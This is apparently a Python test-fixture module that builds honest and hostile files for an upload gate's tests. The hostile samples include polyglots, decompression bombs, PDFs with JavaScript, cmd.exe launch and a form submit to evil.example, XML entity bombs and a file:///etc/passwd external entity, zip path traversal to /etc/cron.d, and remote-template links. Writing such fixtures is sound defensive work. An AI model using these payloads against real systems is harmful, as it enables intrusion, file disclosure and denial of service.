"""Files for the upload gate, made here: honest ones, and ones that mean harm."""

import stat
import struct
import warnings
import zipfile
import zlib
from io import BytesIO

from openpyxl import Workbook
from PIL import Image

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<html><script>alert(document.domain)</script></html>"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES_XML = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Override PartName="/word/document.xml" ContentType="application/{}+xml"/>'
    "</Types>"
)
DOCUMENT_XML = (
    '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
    'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Өздүк тема</w:t></w:r></w:p></w:body>'
    "</w:document>"
)


def a_png(width=4, height=3, *, chunks=(), color=(200, 30, 30)):
    picture = BytesIO()
    Image.new("RGB", (width, height), color).save(picture, "PNG")
    data = picture.getvalue()
    extra = b"".join(a_chunk(name, body) for name, body in chunks)
    return data[:33] + extra + data[33:]


def a_chunk(name, body):
    return (
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
    )


def a_png_bomb(width=20_000, height=20_000):
    """Half a megabyte that unpacks to a gigabyte of pixels; here the header suffices."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" * 1_000_000)
    chunks = a_chunk(b"IHDR", header) + a_chunk(b"IDAT", pixels) + a_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def a_jpeg(width=16, height=12, **options):
    picture = BytesIO()
    Image.effect_noise((width, height), 80).convert("RGB").save(picture, "JPEG", **options)
    return picture.getvalue()


def a_gif():
    picture = BytesIO()
    Image.new("P", (2, 2)).save(picture, "GIF")
    return picture.getvalue()


def a_pdf(*objects, head=b"%PDF-1.4\n", tail=b"%%EOF\n", trailer=b""):
    """As much of a PDF as the gate looks at, with these objects among the usual ones."""
    usual = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    body = b"".join(
        b"%d 0 obj\n%s\nendobj\n" % (number, words)
        for number, words in enumerate([*usual, *objects], start=1)
    )
    return head + body + b"trailer << /Root 1 0 R %s >>\nstartxref\n9\n" % trailer + tail


def packed_objects(words, *, filters=b"/FlateDecode", pack=zlib.compress):
    packed = pack(b"7 0 " + words)
    return b"<< /Type /ObjStm /N 1 /First 4 /Filter %s /Length %d >>\nstream\n%s\nendstream" % (
        filters,
        len(packed),
        packed,
    )


def a_zip(parts, *, comment=b""):
    """Pack the parts: a name and its content, or an entry described by hand and its content."""
    packed = BytesIO()
    with (
        warnings.catch_warnings(),
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as folder,
    ):
        warnings.simplefilter("ignore")  # two entries of one name
        for name, content in parts:
            folder.writestr(name, content)
        folder.comment = comment
    return packed.getvalue()


def a_docx(
    *extra, types="vnd.openxmlformats-officedocument.wordprocessingml.document.main", **kw
):
    parts = {
        "[Content_Types].xml": TYPES_XML.format(types),
        "_rels/.rels": a_link("officeDocument", "word/document.xml", mode=""),
        "word/document.xml": DOCUMENT_XML,
        **kw,
    }
    return a_zip([*parts.items(), *extra])


def a_link(kind, target, mode='TargetMode="External"'):
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        f'2006/relationships"><Relationship Id="r1" Type="{RELS}/{kind}" Target="{target}" '
        f"{mode}/></Relationships>"
    )


def linked_docx(kind, target):
    return a_docx(("word/_rels/document.xml.rels", a_link(kind, target)))


def a_symlink():
    entry = zipfile.ZipInfo("word/media/image1.png")
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    return entry, "/etc/passwd"


def an_xlsx(rows=((1, "Өмүрбек"), (2, "=1+1"))):
    book = Workbook()
    for row in rows:
        book.active.append(row)
    packed = BytesIO()
    book.save(packed)
    return packed.getvalue()


def marked_as_locked(data):
    """Set the flag of encryption in the index of a zip."""
    place = data.index(b"PK\x01\x02") + 8
    return data[:place] + b"\x01\x00" + data[place + 2 :]


def overlapping(data, times=50):
    """Repeat an entry of the index, so that one content is unpacked many times."""
    first, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    second = data.index(b"PK\x01\x02", first + 4)
    entry = data[first:second]
    copies = b"".join(
        entry.replace(b"[Content_Types].xml", b"[Content_Types]%03d!" % number)
        for number in range(times)
    )
    index = data[first:end] + copies
    count = len(index.split(b"PK\x01\x02")) - 1
    return (
        data[:first]
        + index
        + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(index), first, 0)
    )


def made(case):
    """Return the content of a hostile file; the large ones are made when asked for."""
    return HOSTILE[case]() if callable(HOSTILE[case]) else HOSTILE[case]


HONEST = {
    "png": ("сүрөт.png", a_png(), "image/png"),
    "png with words": ("a.png", a_png(chunks=[(b"tEXt", b"Title\x00a")]), "image/png"),
    "png of 25 million points": ("a.png", a_png_bomb(5000, 5000), "image/png"),
    "jpeg": ("IMG_2031.JPG", a_jpeg(), "image/jpeg"),
    "progressive jpeg": ("a.jpeg", a_jpeg(400, 300, progressive=True), "image/jpeg"),
    "large jpeg": ("a.jpg", a_jpeg(1600, 1200, quality=95), "image/jpeg"),
    "jpeg with exif": ("a.jpg", a_jpeg(exif=b"Exif\x00\x00" + b"MM\x00*" * 20), "image/jpeg"),
    "jpeg with a second picture": ("a.jpg", a_jpeg() + a_jpeg(8, 8), "image/jpeg"),
    "jpeg of a phone": ("a.jpg", a_jpeg() + b"\x00\x00\x01\x00notesSEFT", "image/jpeg"),
    "moving jpeg": (
        "a.MP.jpg",
        a_jpeg() + b"\x00\x00\x00\x18ftypmp42" + b"x" * 50,
        "image/jpeg",
    ),
    "pdf": ("отчёт.pdf", a_pdf(), "application/pdf"),
    "pdf that ends in lines": ("a.pdf", a_pdf(tail=b"%%EOF\r\n\r\n"), "application/pdf"),
    "pdf changed later": ("a.pdf", a_pdf() + a_pdf(head=b""), "application/pdf"),
    "pdf with packed objects": (
        "a.pdf",
        a_pdf(packed_objects(b"<< /Type /Font >>"), head=b"%PDF-1.7\n%\xe2\xe3\n"),
        "application/pdf",
    ),
    "docx": ("план.docx", a_docx(), None),
    "docx with a web address": (
        "a.docx",
        linked_docx("hyperlink", "https://edu.gov.kg/"),
        None,
    ),
    "docx with a picture": ("a.docx", a_docx(("word/media/image1.png", a_png())), None),
    "docx with long text": (
        "a.docx",
        a_docx(("word/comments.xml", "<w>" + " ".join(map(str, range(300_000))) + "</w>")),
        None,
    ),
    "xlsx": ("жадыбал.xlsx", an_xlsx(), None),
    "xlsx of 3,000 rows": (
        "a.xlsx",
        an_xlsx([(n, f"Аты {n}", 1.5) for n in range(3000)]),
        None,
    ),
}

_BILLION = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
)
_OUTSIDE = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
)
_MACRO_TYPE = "vnd.ms-word.document.macroEnabled.main"
_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"

HOSTILE = {
    "nothing": b"",
    "text": "жөн эле текст".encode(),
    "html": HTML,
    "svg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="x"/>',
    "eicar": EICAR,
    "program": b"MZ\x90\x00" + b"\x00" * 200,
    "gif": a_gif(),
    "gif and zip": a_gif() + a_zip([("a.txt", "a")]),
    "heic": b"\x00\x00\x00\x18ftypheic" + b"\x00" * 50,
    "old word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
    "rar": b"Rar!\x1a\x07\x00" + b"\x00" * 50,
    "limit and one": lambda: b"%PDF-1.4\n" + b"\x00" * (20 * 1024 * 1024 - 8),
    # pictures
    "png and html": a_png() + HTML,
    "png and zip": a_png() + a_zip([("a.txt", "a")]),
    "png cut short": a_png()[:-20],
    "png without an end": a_png()[:-12],
    "png with a false sum": a_png()[:40] + b"\xff" + a_png()[41:],
    "only the head of a png": b"\x89PNG\r\n\x1a\n" + HTML,
    "png bomb": a_png_bomb(),
    "png of no size": a_png_bomb(0, 5),
    "jpeg and html": a_jpeg() + HTML,
    "jpeg and zip": a_jpeg() + a_zip([("a.txt", "a")]),
    "jpeg, html, and an end": a_jpeg() + HTML + b"\xff\xd9",
    "jpeg and html as of a phone": a_jpeg() + HTML + b"SEFT",
    "jpeg cut short": a_jpeg(200, 200)[:-40],
    "only the head of a jpeg": b"\xff\xd8\xff\xe0" + HTML,
    "jpeg without size": b"\xff\xd8\xff\xfe\x00\x04ab\xff\xd9",
    "jpeg bomb": a_jpeg().replace(struct.pack(">HH", 12, 16), struct.pack(">HH", 65000, 65000)),
    "jpeg of 20 MB of fillings": lambda: b"\xff\xd8" + b"\xff" * (19 * 1024 * 1024),
    "many jpegs": a_jpeg(8, 8) * 40,
    # pdf
    "html before a pdf": HTML + a_pdf(),
    "pdf and html": a_pdf() + HTML,
    "pdf and zip": a_pdf() + a_zip([("a.txt", "a")]),
    "pdf and zip that ends as a pdf": a_pdf() + a_zip([("a.txt", "a")], comment=b"%%EOF\n"),
    "pdf without an end": a_pdf(tail=b""),
    "pdf of no version": a_pdf(head=b"%PDF-<script>\n"),
    "pdf cut short": a_pdf()[:100],
    "locked pdf": a_pdf(trailer=b"/Encrypt 9 0 R"),
    "pdf with a script": a_pdf(_ACTION),
    "pdf with a script spelt oddly": a_pdf(_ACTION.replace(b"/JavaScript", b"/J#61vaScr#69pt")),
    "pdf with a packed script": a_pdf(packed_objects(_ACTION)),
    "pdf with a script packed twice": a_pdf(
        packed_objects(
            _ACTION,
            filters=b"[/FlateDecode /FlateDecode]",
            pack=lambda words: zlib.compress(zlib.compress(words)),
        )
    ),
    "pdf with packed objects spelt oddly": a_pdf(
        packed_objects(_ACTION).replace(b"/ObjStm", b"/Obj#53tm")
    ),
    "pdf with packed objects far away": a_pdf(
        packed_objects(_ACTION).replace(b"/ObjStm", b"/ObjStm /X (" + b"a" * 600 + b")")
    ),
    "pdf that starts a program": a_pdf(b"<< /S /Launch /F (cmd.exe) >>"),
    "pdf with files inside": a_pdf(b"<< /Type /EmbeddedFile /Length 0 >>"),
    "pdf with a film": a_pdf(b"<< /Subtype /RichMedia >>"),
    "pdf that sends": a_pdf(b"<< /S /SubmitForm /F (http://evil.example) >>"),
    "pdf bomb": lambda: a_pdf(packed_objects(b"0" * (45 * 1024 * 1024))),
    # word and excel
    "some zip": a_zip([("a.txt", "a")]),
    "html before a docx": HTML + a_docx(),
    "docx and html": a_docx() + HTML,
    "docx with a remark": a_docx()[:-2] + b"\x04\x00<a/>",
    "docx cut short": a_docx()[:-30],
    "docx without types": a_zip([("word/document.xml", DOCUMENT_XML)]),
    "docx bomb": lambda: a_docx(("word/media/a.bin", b"\x00" * (30 * 1024 * 1024))),
    "docx of too much": lambda: a_docx(
        *[(f"word/media/{n}.dat", bytes(range(256)) * 4000 * 11) for n in range(10)]
    ),
    "xlsx bomb": lambda: a_zip(
        [
            ("[Content_Types].xml", "<Types/>"),
            ("xl/workbook.xml", "<workbook/>"),
            ("xl/worksheets/sheet1.xml", "<c/>" * 12_000_000),
        ]
    ),
    "docx of overlapping entries": overlapping(a_docx(("word/a.xml", "<a/>")), 300),
    "docx of many entries": lambda: a_docx(*[(f"word/media/{n}", "") for n in range(2_100)]),
    "docx of 66,000 entries": lambda: a_docx(*[(f"{n}", "") for n in range(66_000)]),
    "locked docx": marked_as_locked(a_docx()),
    "docx with a nested zip": a_docx(("word/media/a.png", a_zip([("a", "a")]))),
    "docx with a docx": a_docx(("word/embeddings/a.docx", a_docx())),
    "docx with an old object": a_docx(("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")),
    "docx with an old object elsewhere": a_docx(("word/media/a.png", b"\xd0\xcf\x11\xe0" * 9)),
    "docx with a program": a_docx(("word/media/a.exe", b"a")),
    "docx with a page": a_docx(("word/media/a.html", HTML)),
    "docx with macros": a_docx(("word/vbaProject.bin", b"\x00")),
    "docx with macros named otherwise": a_docx(types=_MACRO_TYPE),
    "docx with a link out": a_docx(a_symlink()),
    "docx with a path": a_docx(("../../etc/cron.d/a", "a")),
    "docx with a full path": a_docx(("/etc/cron.d/a", "a")),
    "docx with a backslash": a_docx(("word\\..\\a", "a")),
    "docx with two texts": a_docx(("word/document.xml", DOCUMENT_XML)),
    "docx with entities": a_docx(**{"word/document.xml": _BILLION}),
    "docx with outside entities": a_docx(("word/settings.xml", _OUTSIDE)),
    "docx with wide entities": a_docx(("word/settings.xml", _BILLION.encode("utf-16"))),
    "docx with wide entities unmarked": a_docx(
        ("a.xml", b" <\x00" + _BILLION.encode("utf-16-le"))
    ),
    "docx with late entities": a_docx(
        ("a.xml", b"<?x " + b" " * (256 * 1024 - 9) + b"<!ENTITY b 'c'>")
    ),
    "docx with a template elsewhere": linked_docx(
        "attachedTemplate", "http://evil.example/a.dotm"
    ),
    "docx with a picture elsewhere": linked_docx("image", "http://evil.example/a.png"),
    "docx with an object elsewhere": linked_docx("oleObject", "mhtml:http://evil.example!x"),
    "docx with a link to a file": linked_docx("hyperlink", "file:///etc/passwd"),
    "docx with a link to a share": linked_docx("hyperlink", r"\\evil.example\a"),
    "docx with a script link": linked_docx("hyperlink", "javascript:alert(1)"),
    "docx with a page for a part": linked_docx("aFChunk", "http://evil.example/a.mht"),
    "xlsx with a link to a book": a_zip(
        [
            ("[Content_Types].xml", "<Types/>"),
            ("xl/workbook.xml", "<workbook/>"),
            ("xl/externalLinks/externalLink1.xml", "<a/>"),
        ]
    ),
    "xlsx with a connection": a_zip(
        [
            ("[Content_Types].xml", "<Types/>"),
            ("xl/workbook.xml", "<workbook/>"),
            ("xl/connections.xml", "<a/>"),
        ]
    ),
}
